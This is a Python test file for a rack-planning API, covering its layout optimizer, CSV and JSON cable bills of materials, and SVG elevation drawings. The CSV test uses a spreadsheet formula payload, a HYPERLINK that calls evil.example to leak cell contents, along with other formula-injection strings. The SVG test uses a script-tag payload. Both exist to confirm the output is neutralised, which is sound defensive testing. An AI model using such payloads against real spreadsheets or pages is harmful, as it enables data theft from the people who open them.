"""Optimizer, cable BOM and elevation routes, on SQLite and on real PostgreSQL."""

import asyncio
import csv
import dataclasses
import io
import xml.etree.ElementTree as ET

import falcon.testing
import pytest
from helpers import Api, assert_documented

from homerack.api.app import create_app
from homerack.domain import optimizer
from homerack.domain.bom import CSV_COLUMNS
from homerack.domain.schemas import BomReport

NS = "{http://www.w3.org/2000/svg}"


def optimize_path(lab) -> str:
    return f"/api/racks/{lab['rack']['id']}/optimize"


async def positions(api, rack_id) -> dict[str, int]:
    rack = (await api.get(f"/api/racks/{rack_id}")).json
    return {d["name"]: d["position_u"] for d in rack["devices"]}


def recompute(body, lab_types) -> optimizer.Score:
    """The proposed score, recomputed from the formulas with the returned positions."""
    rack = optimizer.Rack(name="lab", u_height=12, max_weight_kg=100, max_power_w=1000)
    devices = [
        optimizer.Device(
            id=p["device_id"],
            name=p["name"],
            u_height=lab_types[p["name"]]["u_height"],
            weight_kg=lab_types[p["name"]]["weight_kg"],
            power_w=lab_types[p["name"]]["power_w"],
            access="monthly",
            position_u=p["position_u"],
        )
        for p in body["placements"]
    ]
    ids = {p["name"]: p["device_id"] for p in body["placements"]}
    links = [optimizer.Link(ids["core"], ids["pve1"], 2)]
    return optimizer.evaluate(rack, devices, links, optimizer.Weights(**body["weights"]))


async def test_proposal_is_optimal_scored_and_saves_nothing(api, lab):
    before = await positions(api, lab["rack"]["id"])
    res = await api.post(optimize_path(lab), json={}, role="viewer")
    assert res.status_code == 200, res.text
    body = res.json
    assert body["applied"] is False
    assert {p["name"] for p in body["placements"]} == {"core", "pve1"}
    # Two devices: the exact search proves the optimum.
    assert body["proof"]["optimal"] is True
    proposed, current = body["score"]["proposed"], body["score"]["current"]
    assert proposed["score"] >= current["score"]
    types = {"core": lab["switch"], "pve1": lab["server"]}
    assert recompute(body, types).score == pytest.approx(proposed["score"], abs=1e-6)
    assert body["proof"]["lower_bound"] <= proposed["cost"] + 1e-9
    moved = {p["device_id"] for p in body["placements"] if p["moved"]}
    # the lab's layout is not the optimum: a device moves, and each moved device says why
    assert moved
    assert {e["device_id"] for e in body["explanations"]} == moved
    assert all(e["text"].startswith("moved from U") for e in body["explanations"])
    assert await positions(api, lab["rack"]["id"]) == before


async def test_apply_saves_the_layout_and_a_rerun_moves_nothing(api, lab):
    res = await api.post(optimize_path(lab), json={"apply": True}, role="editor")
    assert res.status_code == 200, res.text
    body = res.json
    assert body["applied"] is True
    wanted = {p["name"]: p["position_u"] for p in body["placements"]}
    assert await positions(api, lab["rack"]["id"]) == wanted
    again = (await api.post(optimize_path(lab), json={})).json
    assert len(again["placements"]) == len(wanted) == 2
    assert not any(p["moved"] for p in again["placements"])
    assert again["score"]["current"] == again["score"]["proposed"]
    assert again["layout_version"] == body["layout_version"]


async def test_viewer_may_not_apply(api, lab):
    res = await api.post(optimize_path(lab), json={"apply": True}, role="viewer")
    assert res.status_code == 403
    assert "editor" in res.json["description"]


async def test_apply_of_a_stale_proposal_is_refused(api, lab):
    proposal = (await api.post(optimize_path(lab), json={})).json
    moved = await api.patch(f"/api/devices/{lab['sw']['id']}", json={"position_u": 9})
    assert moved.status_code == 200
    res = await api.post(
        optimize_path(lab), json={"apply": True, "layout_version": proposal["layout_version"]}
    )
    assert res.status_code == 409
    assert "changed" in res.json["description"]
    assert await positions(api, lab["rack"]["id"]) == {"core": 9, "pve1": 1}


async def test_apply_refuses_when_the_rack_changes_while_optimizing(api, lab, held_optimizer):
    # The optimizer is held until a concurrent edit has committed.
    run = asyncio.create_task(api.post(optimize_path(lab), json={"apply": True}))
    assert await asyncio.to_thread(held_optimizer.started.acquire, True, 10)
    edit = await api.patch(f"/api/devices/{lab['sw']['id']}", json={"position_u": 7})
    assert edit.status_code == 200
    held_optimizer.release.set()
    res = await run
    assert res.status_code == 409, res.text
    assert await positions(api, lab["rack"]["id"]) == {"core": 7, "pve1": 1}


async def test_add_unplaced_devices(api, lab):
    spare = await api.create(
        "/api/devices", {"name": "pve2", "device_type_id": lab["server"]["id"]}
    )
    res = await api.post(optimize_path(lab), json={"add_device_ids": [spare["id"]], "apply": True})
    assert res.status_code == 200, res.text
    added = next(p for p in res.json["placements"] if p["device_id"] == spare["id"])
    assert added["added"] is True and added["previous_u"] is None
    device = (await api.get(f"/api/devices/{spare['id']}")).json
    assert (device["rack_id"], device["position_u"]) == (lab["rack"]["id"], added["position_u"])


async def test_add_device_errors_name_the_field(api, lab):
    other = await api.create("/api/racks", {"name": "Other", "u_height": 6})
    elsewhere = await api.create(
        "/api/devices",
        {
            "name": "far",
            "device_type_id": lab["switch"]["id"],
            "rack_id": other["id"],
            "position_u": 1,
        },
    )
    res = await api.post(
        optimize_path(lab), json={"add_device_ids": [elsewhere["id"], 999999, lab["sw"]["id"]]}
    )
    assert res.status_code == 422
    reasons = {e["field"]: e["reason"] for e in res.json["errors"]}
    assert "rack 'Other'" in reasons["add_device_ids[0]"]
    assert "does not exist" in reasons["add_device_ids[1]"]
    assert "already in this rack" in reasons["add_device_ids[2]"]


async def test_infeasible_request_lists_every_reason(api, lab):
    spares = [
        await api.create("/api/devices", {"name": f"big{i}", "device_type_id": lab["server"]["id"]})
        for i in range(4)
    ]
    before = await positions(api, lab["rack"]["id"])
    res = await api.post(
        optimize_path(lab), json={"add_device_ids": [s["id"] for s in spares], "apply": True}
    )
    assert res.status_code == 422, res.text
    text = " ".join(e["reason"] for e in res.json["errors"]).lower()
    assert "weight" in text and "power" in text  # 145 kg > 100 kg, 1520 W > 1000 W
    assert await positions(api, lab["rack"]["id"]) == before


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"time_limit_ms": 0}, "time_limit_ms"),
        ({"time_limit_ms": 10001}, "time_limit_ms"),
        ({"weights": {"cable": 0, "weight": 0, "thermal": 0, "access": 0}}, "weights"),
        ({"weights": {"cable": -1}}, "weights.cable"),
        ({"add_device_ids": [3, 3]}, ""),
        ({"apply": "yes"}, "apply"),
        ({"speed": 11}, "speed"),
    ],
)
async def test_invalid_optimize_requests(api, lab, body, field):
    res = await api.post(optimize_path(lab), json=body)
    assert res.status_code == 422
    assert field in [e["field"] for e in res.json["errors"]]


async def test_unknown_rack_is_404_everywhere(api):
    assert (await api.post("/api/racks/999/optimize", json={})).status_code == 404
    assert (await api.get("/api/racks/999/bom")).status_code == 404
    assert (await api.get("/api/racks/999/bom.csv")).status_code == 404
    assert (await api.get("/api/racks/999/elevation.svg")).status_code == 404


async def test_bom_by_hand(api, lab):
    # core (1U at U12, centre 12) to pve1 (2U at U1, centre 1.5), 2 x cat6, 19" rack:
    # (10.5 U x 44.45 mm + 2 x 300 mm) x 1.2 = 1280.07 mm -> 1.5 m stock, 2 cables.
    nas_type = await api.create(
        "/api/device-types",
        {
            "brand_id": lab["brands"][1]["id"],
            "model": "NAS",
            "category": "storage",
            "u_height": 1,
            "weight_kg": 5,
            "power_w": 40,
        },
    )
    nas = await api.create(
        "/api/devices",
        {
            "name": "nas",
            "device_type_id": nas_type["id"],
            "rack_id": lab["rack"]["id"],
            "position_u": 3,
        },
    )
    other = await api.create("/api/racks", {"name": "Annex", "u_height": 6})
    far = await api.create(
        "/api/devices",
        {"name": "far", "device_type_id": nas_type["id"], "rack_id": other["id"], "position_u": 1},
    )
    loose = await api.create("/api/devices", {"name": "loose", "device_type_id": nas_type["id"]})
    for a, b, kind in (
        (nas, lab["srv"], "dac"),
        (nas, far, "fiber_os2"),
        (lab["sw"], loose, "cat6a"),
    ):
        await api.create(
            "/api/connections", {"device_a_id": a["id"], "device_b_id": b["id"], "cable_type": kind}
        )
    bom = (await api.get(f"/api/racks/{lab['rack']['id']}/bom", role="viewer")).json
    lines = {(ln["a_name"], ln["b_name"]): ln for ln in bom["lines"]}
    core_pve = lines[("core", "pve1")]
    assert core_pve["length_mm"] == pytest.approx(1280.1, abs=0.1)
    assert (core_pve["stock_length_m"], core_pve["count"]) == (1.5, 2)
    # nas (U3, centre 3) to pve1 (centre 1.5): (1.5 x 44.45 + 600) x 1.2 = 800.01 mm -> 1 m DAC
    nas_pve = lines[("nas", "pve1")]
    assert nas_pve["length_mm"] == pytest.approx(800.0, abs=0.1)
    assert nas_pve["stock_length_m"] == 1.0
    totals = {
        (t["cable_type"], t["stock_length_m"]): (t["count"], t["total_length_m"])
        for t in bom["totals"]
    }
    assert totals == {("cat6", 1.5): (2, 3.0), ("dac", 1.0): (1, 1.0)}
    excluded = {e["b_name"]: e["reason"] for e in bom["excluded"]}
    assert "far (rack Annex)" in excluded and "leaves the rack" in excluded["far (rack Annex)"]
    assert "unplaced" in excluded["loose"]
    assert set(bom["stock_lengths_m"]) >= {"cat6", "dac", "fiber_os2", "power"}
    assert_documented(BomReport, bom)


def csv_rows(text: str) -> list[dict]:
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(header) == CSV_COLUMNS
    return [dict(zip(header, r, strict=True)) for r in rows]


async def test_bom_csv_has_the_json_lines_and_totals_and_runs_no_formula(api, lab):
    rid = lab["rack"]["id"]
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    await api.patch(f"/api/racks/{rid}", json={"name": "Main Rack / Café"})
    assert (
        await api.patch(f"/api/devices/{lab['sw']['id']}", json={"name": link})
    ).status_code == 200
    assert (
        await api.patch(f"/api/devices/{lab['srv']['id']}", json={"name": "@SUM(1)"})
    ).status_code == 200
    await api.patch(f"/api/connections/{lab['cable']['id']}", json={"label": "-2+3"})
    await api.create(
        "/api/connections",
        {
            "device_a_id": lab["srv"]["id"],
            "device_b_id": lab["sw"]["id"],
            "cable_type": "power",
            "label": "+A1",
        },
    )
    res = await api.get(f"/api/racks/{rid}/bom.csv", role="viewer")
    assert res.status_code == 200, res.text
    assert res.headers["content-type"] == "text/csv; charset=utf-8"
    assert res.headers["content-disposition"] == ('attachment; filename="main-rack-cafe-bom.csv"')
    rows = csv_rows(res.text)
    bom = (await api.get(f"/api/racks/{rid}/bom", role="viewer")).json
    lines = [r for r in rows if r["row"] == "cable"]
    assert [
        (
            int(r["connection_id"]),
            r["cable_type"],
            int(r["count"]),
            float(r["stock_length_m"]),
            float(r["run_length_mm"]),
        )
        for r in lines
    ] == [
        (ln["connection_id"], ln["cable_type"], ln["count"], ln["stock_length_m"], ln["length_mm"])
        for ln in bom["lines"]
    ]
    assert [(r["device_a"], r["device_b"], r["label"]) for r in lines] == [
        ("'" + link, "'@SUM(1)", "'-2+3"),
        ("'@SUM(1)", "'" + link, "'+A1"),
    ]
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    subtotals = [
        (r["cable_type"], float(r["stock_length_m"]), int(r["count"]), float(r["length_m"]))
        for r in rows
        if r["row"] == "subtotal"
    ]
    assert subtotals == [
        (t["cable_type"], t["stock_length_m"], t["count"], t["total_length_m"])
        for t in bom["totals"]
    ]
    assert subtotals == [("cat6", 1.5, 2, 3.0), ("power", 1.5, 1, 1.5)]
    assert rows[-1]["row"] == "total" and (rows[-1]["count"], rows[-1]["length_m"]) == ("3", "4.5")


async def test_a_cross_origin_ui_can_read_the_csv_file_name(config, lab):
    ui = "https://ui.example"
    app = create_app(dataclasses.replace(config, cors_origins=(ui,)))
    async with falcon.testing.ASGIConductor(app) as c:
        res = await Api(c).get(f"/api/racks/{lab['rack']['id']}/bom.csv", headers={"Origin": ui})
    assert res.status_code == 200
    assert res.headers["access-control-allow-origin"] == ui
    exposed = res.headers["access-control-expose-headers"].lower()
    assert "content-disposition" in exposed


async def test_bom_csv_needs_a_token_and_names_an_unnamed_rack(api, lab):
    path = f"/api/racks/{lab['rack']['id']}/bom.csv"
    assert (await api.get(path, role=None)).status_code == 401
    await api.patch(f"/api/racks/{lab['rack']['id']}", json={"name": "机柜"})
    res = await api.get(path, role="viewer")
    assert res.headers["content-disposition"] == 'attachment; filename="rack-bom.csv"'


def svg_root(text: str):
    return ET.fromstring(text)  # noqa: S314 - our own output, parsed to check it


async def test_elevation_is_safe_svg_with_hostile_names(api, lab):
    evil = "<script>alert(\"x\")</script> & 'quotes'"
    await api.patch(f"/api/racks/{lab['rack']['id']}", json={"name": evil})
    await api.patch(f"/api/devices/{lab['sw']['id']}", json={"name": evil[:40] + "é" * 60})
    res = await api.get(f"/api/racks/{lab['rack']['id']}/elevation.svg", role="viewer")
    assert res.status_code == 200
    assert res.headers["content-type"].startswith("image/svg+xml")
    assert "default-src 'none'" in res.headers["content-security-policy"]
    root = svg_root(res.text)
    assert root.tag == f"{NS}svg"
    assert not [e for e in root.iter() if e.tag.lower().endswith("script")]
    assert "<script" not in res.text
    assert any(evil in (e.text or "") for e in root.iter())  # shown as text, verbatim
    assert "Dell R740" in res.text


async def test_elevation_of_a_proposal(api, lab):
    rack_id = lab["rack"]["id"]
    spare = await api.create(
        "/api/devices", {"name": "spare", "device_type_id": lab["switch"]["id"]}
    )
    proposal = (
        await api.post(
            optimize_path(lab), json={"add_device_ids": [spare["id"]], "include_svg": True}
        )
    ).json
    assert "spare" in proposal["elevation_svg"]
    svg_root(proposal["elevation_svg"])
    query = ",".join(f"{p['device_id']}:{p['position_u']}" for p in proposal["placements"])
    drawn = await api.get(f"/api/racks/{rack_id}/elevation.svg", params={"positions": query})
    assert drawn.status_code == 200 and "spare" in drawn.text
    stored = await api.get(f"/api/racks/{rack_id}/elevation.svg")
    assert "spare" not in stored.text
    bad = await api.get(f"/api/racks/{rack_id}/elevation.svg", params={"positions": "1:x"})
    assert bad.status_code == 400
    other = await api.create("/api/racks", {"name": "Other", "u_height": 6})
    far = await api.create(
        "/api/devices",
        {
            "name": "far",
            "device_type_id": lab["switch"]["id"],
            "rack_id": other["id"],
            "position_u": 1,
        },
    )
    wrong = await api.get(
        f"/api/racks/{rack_id}/elevation.svg", params={"positions": f"{far['id']}:3"}
    )
    assert wrong.status_code == 422


@pytest.mark.parametrize(
    "positions",
    [
        "1:\u00b2",
        "\u00b2:1",
        "\u0661:1",
        "1:\u0663",
        "1:" + "9" * 5000,
        "9" * 5000 + ":1",
        "1:\u0000",
    ],
)
async def test_elevation_positions_accept_ascii_digits_only(api, lab, positions):
    # isdigit() accepts superscripts and other scripts' digits that int() refuses (500).
    res = await api.get(
        f"/api/racks/{lab['rack']['id']}/elevation.svg", params={"positions": positions}
    )
    assert res.status_code == 400, res.text
    assert res.json["title"] == "Invalid parameter"
